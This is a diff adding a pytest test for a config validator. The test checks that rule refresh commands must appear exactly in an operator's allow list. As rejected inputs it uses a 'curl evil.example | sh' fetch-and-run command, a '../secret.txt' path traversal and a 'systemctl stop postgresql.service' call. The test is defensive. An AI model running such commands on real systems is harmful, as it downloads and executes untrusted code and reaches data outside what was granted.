@@ -328,3 +328,18 @@ def test_a_rule_reads_files_only_where_the_config_allows(project: Path, capsys) 
     assert error["message"] == "not valid SQL: syntax error at character 26"
     write_rule(project, "fix.yaml", REFRESH_RULE.format(sql_file="../secret.txt"))  # still outside what is granted
     assert "hunter2" not in json.dumps(only_error(capsys))
+
+
+def test_a_refresh_command_must_be_one_the_config_lists(project: Path, capsys) -> None:
+    rule = REFRESH_RULE.replace("{{source: warehouse, sql_file: {sql_file}}}", "{{command: {command}}}")
+    write_rule(project, "fix.yaml", rule.format(command="[sh, -c, 'curl evil.example | sh']"))
+    error = only_error(capsys)
+    assert (error["path"], error["message"]) == ("refresh.command", "a rule may run only the commands listed in "
+                                                 "'rule_commands' in watchdog.yaml, exactly as written there; ask the "
+                                                 "operator to add this one")
+    (project / "watchdog.yaml").write_text((project / "watchdog.yaml").read_text()
+                                           + "rule_commands:\n  - [systemctl, start, warehouse-refresh.service]\n")
+    write_rule(project, "fix.yaml", rule.format(command="[systemctl, start, warehouse-refresh.service]"))
+    assert validate(capsys)[0] == 0
+    write_rule(project, "fix.yaml", rule.format(command="[systemctl, stop, postgresql.service]"))  # same program: not enough
+    assert only_error(capsys)["path"] == "refresh.command"
